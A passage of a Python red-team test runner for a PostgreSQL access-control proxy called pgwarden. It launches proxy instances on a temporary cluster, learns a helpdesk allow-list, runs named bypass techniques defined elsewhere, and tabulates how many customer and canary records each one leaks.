        if audit_db is not None:
            args += ["--audit-db", str(audit_db)]
        return ProxyProcess(self.pg, workdir, args, admin=False, wait=wait)

    def close(self) -> None:
        """Stop the prestarted pgwarden nobody took."""
        spare, self._spare = self._spare, None
        if spare is not None:
            spare.stop()


def policy_without_allow_lists(out: Path) -> Path:
    """The second database's policy without its allow_statements rules (to learn them, or
    to try what they would hide), written to ``out``."""
    data = yaml.safe_load(sdb.POLICY.read_text())
    data["end_user_key"] = str(sdb.END_USER_KEY)
    data["rules"] = [r for r in data["rules"] if "allow_statements" not in r]
    out.parent.mkdir(parents=True, exist_ok=True)
    out.write_text(yaml.safe_dump(data, sort_keys=False))
    return out


def learn_helpdesk(env: Env, out: Path) -> str:
    """The helpdesk account's allow-list: the honest day's work through crm_app, audited,
    then ``pgwarden policy learn --subject helpdesk``.  Returns what learn printed."""
    audit_db = env.workdir / "learn-audit.db"
    policy = policy_without_allow_lists(env.workdir / "learn-policy.yaml")
    proxy = env.proxy("learn", audit_db=audit_db, policy=policy)
    try:
        honest_work(env, proxy, "search_path", agents=(("agent_cat", sdb.APP_USER),))
    finally:
        proxy.stop()
    proc = subprocess.run(
        [*pgwarden_command(), "policy", "learn", "--policy", str(policy),
         "--subject", "helpdesk", "--db", str(audit_db), "--out", str(out)],
        capture_output=True, text=True, check=True,
    )  # fmt: skip
    return proc.stdout.strip()


def run_technique(env: Env, name: str, variant: str = "search_path") -> Outcome:
    channel, fn = TECHNIQUES[name]
    out = Outcome(name=name, channel=channel, ntk=env.ds.need_to_know(ATTACKER), variant=variant)
    proxy = env.proxy(f"{name}-{variant}")
    ctx = Ctx(env, proxy, out)
    try:
        fn(ctx)
    except Refused:
        pass
    except psycopg.OperationalError as exc:
        out.internal_errors.append(f"connection failed: {str(exc).strip()[:200]}")
    finally:
        ctx.close()
        # How pgwarden itself exits is noted, not judged: the invariants are about sessions.
        try:
            code = proxy.stop()
        except AssertionError as exc:  # did not exit after SIGTERM: killed
            out.notes.append(str(exc).splitlines()[0])
            code = 0
        if code != 0:
            out.notes.append(f"pgwarden exited {code} after SIGTERM")
        log = proxy.log()
        for line in log.splitlines():
            if '"internal_error"' in line:
                try:
                    exc_text = json.loads(line).get("exception", "")
                except ValueError:
                    exc_text = line
                tb = [ln.strip() for ln in exc_text.strip().splitlines()]
                where = [ln for ln in tb if ln.startswith("File ")][-2:]
                out.notes.append(
                    "pgwarden log internal_error: " + " | ".join([*where, tb[-1]])[:400]
                )
                break
    return out


def run_honest(env: Env, variant: str = "search_path") -> HonestResult:
    proxy = env.proxy(f"honest-{variant}")
    try:
        res = honest_work(env, proxy, variant)
    finally:
        code: int | str
        try:
            code = proxy.stop()
        except AssertionError as exc:
            code = str(exc).splitlines()[0]
    if code != 0:
        print(f"honest [{variant}]: pgwarden stop: {code}", file=sys.stderr)
    return res


def table(outcomes: list[Outcome]) -> str:
    head = (
        f"{'technique':30} {'variant':11} {'channel':7} {'customers':>9} {'max/stmt':>8} "
        f"{'outside':>7} {'canary':>6} {'refused':>8} {'internal':>8}  by channel"
    )
    lines = [head]
    for o in outcomes:
        chans = ",".join(f"{k}:{len(v)}" for k, v in sorted(o.per_channel.items()) if v) or "-"
        refused = f"yes({o.refused})" if o.refused else "no"
        lines.append(
            f"{o.name:30} {o.variant:11} {o.channel:7} {len(o.customers):>9} "
            f"{o.max_per_statement:>8} {len(o.outside):>7} "
            f"{len(o.customers & set(sdb.CANARY_IDS)):>6} {refused:>8} "
            f"{'yes' if o.internal_errors else 'no':>8}  {chans}"
        )
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    ap.add_argument("--only", default="", help="comma-separated technique names")
    ap.add_argument("--variants", default=",".join(VARIANTS), help="search_path,qualified,app")
    ap.add_argument("--json", default="", help="write every outcome as JSON to this file")
    ap.add_argument(
        "--learn-helpdesk", default="", metavar="FILE",
        help="learn the helpdesk account's allow-list from the honest day's work into FILE "
        "(tests/seconddb/helpdesk-allow.yaml), and do nothing else",
    )  # fmt: skip
    args = ap.parse_args(argv)
    if args.learn_helpdesk:
        with (
            tempfile.TemporaryDirectory(prefix="pgwarden-redteam-") as tmp,
            running_cluster(tls=False, schema=False) as pg,
        ):
            print(learn_helpdesk(Env.build(pg, Path(tmp)), Path(args.learn_helpdesk)))
        return 0
    names = [n for n in args.only.split(",") if n] or list(TECHNIQUES)
    variants = [v for v in args.variants.split(",") if v]
    outcomes: list[Outcome] = []
    honest: dict[str, HonestResult] = {}
    with (
        tempfile.TemporaryDirectory(prefix="pgwarden-redteam-") as tmp,
        running_cluster(tls=False, schema=False) as pg,
    ):
        env = Env.build(pg, Path(tmp), prestart=True)
        try:
            for variant in variants:
                for name in names:
                    print(f"... {name} [{variant}]", file=sys.stderr, flush=True)
                    outcomes.append(run_technique(env, name, variant))
                honest[variant] = run_honest(env, variant)
        finally:
            env.close()
    print(table(outcomes))
    print()
    for o in outcomes:
        for v in o.violations():
            print(f"  {o.name} [{o.variant}]: {v}")
        for n in o.notes:
            print(f"  {o.name} [{o.variant}]: {n}")
    for variant, h in honest.items():
        print(f"\nhonest [{variant}]: {h.statements} statements, {len(h.refused)} refused, "
              f"{len(h.errors)} other errors, {len(h.internal_errors)} internal errors")  # fmt: skip
        for q, msg in h.refused:
            print(f"  refused: {' '.join(q.split())[:110]}\n           -> {msg[:200]}")
        for q, msg in h.errors:
            print(f"  error:   {' '.join(q.split())[:110]}\n           -> {msg[:200]}")
    if args.json:
        Path(args.json).write_text(json.dumps({
            "techniques": [{"variant": o.variant, **o.summary()} for o in outcomes],
            "honest": {v: {"statements": h.statements, "refused": h.refused, "errors": h.errors,
                           "internal_errors": h.internal_errors} for v, h in honest.items()},
        }, indent=1))  # fmt: skip
    leaking = sum(1 for o in outcomes if o.violations())
    internal = sum(1 for o in outcomes if o.internal_errors)
    internal += sum(len(h.internal_errors) for h in honest.values())
    print(
        f"techniques={len(outcomes)} leaking={leaking} "
        f"max_customers={max((len(o.customers) for o in outcomes), default=0)} "
        f"max_outside_need_to_know={max((len(o.outside) for o in outcomes), default=0)} "
        f"honest_statements={sum(h.statements for h in honest.values())} "
        f"honest_refused={sum(len(h.refused) for h in honest.values())} internal_errors={internal}"
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
